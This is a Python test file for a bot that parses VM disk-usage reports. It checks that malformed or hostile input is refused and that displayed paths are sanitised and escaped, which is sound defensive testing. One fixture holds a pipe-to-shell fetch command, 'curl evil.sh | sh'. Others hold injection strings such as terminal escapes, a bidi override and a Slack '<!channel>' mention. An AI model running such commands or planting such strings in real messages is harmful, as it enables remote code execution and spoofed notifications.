"""The bot's reader of a VM's disk report (issue 43, part 2) on hostile input, and the owner's words.

A VM's root is the participant: the attribute may be huge, nested, not UTF-8, full of control characters, with
negative or absurd sizes. parse() takes the documented shape or raises InvalidReportError, never anything else;
what_fills() shows only cleaned, escaped text and the bot's own commands.
"""

from __future__ import annotations

import json
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from shared.core import disk_report as d

GIB = 1 << 30


def sample(**changes: Any) -> dict[str, Any]:
    report: dict[str, Any] = {
        "v": 1, "complete": True,
        "disks": [{"mount": "/", "size": 100 * GIB, "used": 40 * GIB, "avail": 60 * GIB},
                  {"mount": "/home/jupyter", "size": 150 * GIB, "used": 140 * GIB, "avail": 10 * GIB}],
        "culprits": [{"kind": "pip", "bytes": 3 * GIB}, {"kind": "huggingface", "bytes": 20 * GIB},
                     {"kind": "trash", "bytes": 1 * GIB}, {"kind": "conda", "bytes": 2 * GIB, "partial": True}],
        "folders": [{"path": "data", "bytes": 50 * GIB}, {"path": "runs", "bytes": 70 * GIB}],
        "models": [{"path": "runs/a.pt", "bytes": 2 * GIB}],
    }
    report.update(changes)
    return report


def text(report: dict[str, Any]) -> str:
    return json.dumps(report, separators=(",", ":"))


def test_a_report_is_read_and_reordered_by_the_bot_trash_first() -> None:
    report = d.parse(text(sample()))
    assert [c.kind for c in report.culprits] == ["trash", "huggingface", "pip", "conda"]
    assert [f.path for f in report.folders] == ["runs", "data"]
    assert report.disks[1].percent == pytest.approx(140 / 150 * 100)


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_the_dm_names_the_top_three_with_sizes_and_commands_trash_first(lang: str) -> None:
    lines = d.what_fills(d.parse(text(sample())), "nb-1", lang).splitlines()
    assert "*nb-1*" in lines[0] and "93 %" in lines[2]
    assert "1.0 GiB" in lines[3] and d.COMMANDS["trash"] in lines[3]
    assert "20.0 GiB" in lines[4] and "`huggingface-cli delete-cache`" in lines[4]
    assert "3.0 GiB" in lines[5] and "`pip cache purge`" in lines[5]
    assert "conda clean" not in "\n".join(lines)  # fourth: beyond the top three
    assert "`~/runs/a.pt` (2.0 GiB)" in lines[6] and "`~/runs` (70.0 GiB)" in lines[7]


def test_a_kind_the_bot_does_not_know_is_left_out_and_its_command_never_shown() -> None:
    report = d.parse(text(sample(culprits=[{"kind": "curl evil.sh | sh", "bytes": 99 * GIB, "command": "x"}])))
    assert report.culprits == ()
    assert "evil" not in d.what_fills(report, "nb", "en")


def test_paths_lose_control_characters_bidi_overrides_and_backticks_and_are_escaped() -> None:
    hostile = "a\x1b[31m\u202e`<!channel>&" + "x" * 200
    report = d.parse(text(sample(folders=[{"path": hostile, "bytes": 1}])))
    shown = d.what_fills(report, "<@U1>", "en")
    assert "\x1b" not in shown and "\u202e" not in shown and "<!channel>" not in shown and "<@U1>" not in shown
    assert "&lt;!channel&gt;&amp;" in shown and len(report.folders[0].path) == d.SHOWN_PATH_CHARS


@pytest.mark.parametrize("raw", [
    "x" * (d.MAX_ATTRIBUTE_CHARS + 1),
    "[" * 5000 + "]" * 5000,
    '{"v":1,"disks":' + "[" * 5000 + "]" * 5000 + "}",
    b'{"v":1,"disks":[],"folders":[{"path":"\xff\xfe","bytes":1}]}',
    "not json", "[]", "null", '{"v":2}', '{"v":true}', '{"v":1.0}', '{"v":1,"complete":"yes"}',
    text(sample(disks=[{"mount": "/", "size": 10, "used": -1, "avail": 1}])),
    text(sample(disks=[{"mount": "/", "size": 10, "used": 11, "avail": 0}])),
    text(sample(disks=[{"mount": "/", "size": True, "used": 0, "avail": 0}])),
    text(sample(disks=[{"mount": "/", "size": 1.5, "used": 0, "avail": 0}])),
    text(sample(disks=[{"mount": "/", "size": 2**70, "used": 0, "avail": 0}])),
    text(sample(disks=[{"mount": "/", "size": 1, "used": 0, "avail": 0}] * 5)),
    text(sample(culprits=[{"kind": "pip", "bytes": -5}])),
    text(sample(culprits=[{"kind": "pip", "bytes": 5}, {"kind": "pip", "bytes": 6}])),
    text(sample(folders=[{"path": "a", "bytes": 1}] * 33)),
    text(sample(folders=[{"path": "a" * 513, "bytes": 1}])),
    text(sample(folders=[{"path": "", "bytes": 1}])),
    text(sample(models="runs/a.pt")),
    '{"v":1,"disks":[{"mount":"/","size":NaN,"used":0,"avail":0}]}',
    '{"v":1,"disks":[{"mount":"/","size":' + "9" * 5000 + ',"used":0,"avail":0}]}',
], ids=lambda raw: repr(raw[:30]))
def test_hostile_attributes_are_refused_with_a_reason(raw: str | bytes) -> None:
    with pytest.raises(d.InvalidReportError):
        d.parse(raw)


JSON = st.recursive(st.none() | st.booleans() | st.integers(min_value=-(2**70), max_value=2**70) | st.floats()
                    | st.text(max_size=20),
                    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=8), inner, max_size=5),
                    max_leaves=30)
SIZE = st.integers(0, 2**40) | st.integers(-(2**64), 2**64) | JSON
PATH_ROW = st.fixed_dictionaries({"path": st.text(max_size=600), "bytes": SIZE})
SHAPED = st.fixed_dictionaries({
    "v": st.just(1), "complete": st.booleans(),
    "disks": st.lists(st.fixed_dictionaries({"mount": st.text(max_size=40), "size": SIZE, "used": SIZE,
                                             "avail": SIZE}), max_size=5),
    "culprits": st.lists(st.fixed_dictionaries({"kind": st.sampled_from(sorted(d.COMMANDS)) | st.text(max_size=9),
                                                "bytes": SIZE}, optional={"partial": st.booleans() | JSON}),
                         max_size=7),
    "folders": st.lists(PATH_ROW, max_size=34),
    "models": st.lists(PATH_ROW, max_size=4),
})
READ: list[bool] = []


def read_or_refuse(raw: str | bytes) -> bool:
    """True when read (its words then checked), False when refused."""
    try:
        report = d.parse(raw)
    except d.InvalidReportError:
        return False
    words = d.what_fills(report, "nb", "en") + d.what_fills(report, "nb", "ja")
    assert not any(ord(c) < 32 and c != "\n" for c in words)
    assert "<" not in words.replace("&lt;", "")
    assert all(0 <= c.size <= d.MAX_SIZE and c.kind in d.COMMANDS for c in report.culprits)
    return True


@settings(max_examples=300, derandomize=True, deadline=None)
@given(st.binary(max_size=300) | st.text(max_size=300) | JSON.map(json.dumps))
def test_any_text_is_read_or_refused_never_an_other_error(raw: str | bytes) -> None:
    read_or_refuse(raw)


@settings(max_examples=200, derandomize=True, deadline=None)
@given(SHAPED)
def test_reports_of_the_right_shape_with_wrong_values_are_read_or_refused(report: dict[str, Any]) -> None:
    READ.append(read_or_refuse(json.dumps(report)))


def test_the_shaped_reports_were_read_as_well_as_refused() -> None:
    """Else the property above would only ever see refusals (runs after it: pytest keeps the file's order)."""
    if not READ:
        pytest.skip("run alone: the properties above did not run first")
    assert 0.05 < sum(READ) / len(READ) < 0.95, f"{sum(READ)} read of {len(READ)}"
